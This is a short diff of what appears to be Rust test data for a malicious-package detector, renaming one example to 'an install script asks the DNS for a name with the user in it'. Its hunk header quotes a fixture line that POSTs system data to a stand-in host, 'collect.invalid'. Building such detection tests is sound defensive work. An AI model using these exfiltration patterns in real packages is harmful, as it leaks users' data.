@@ -32,7 +32,7 @@ fetch("https://collect.invalid/", { method: "POST", body: JSON.stringify({ h: os
             ],
         },
         Example {
-            name: "a hook asks the DNS for a name with the user in it",
+            name: "an install script asks the DNS for a name with the user in it",
             severity: Some(Severity::High),
             files: &[(
                 "package.json",
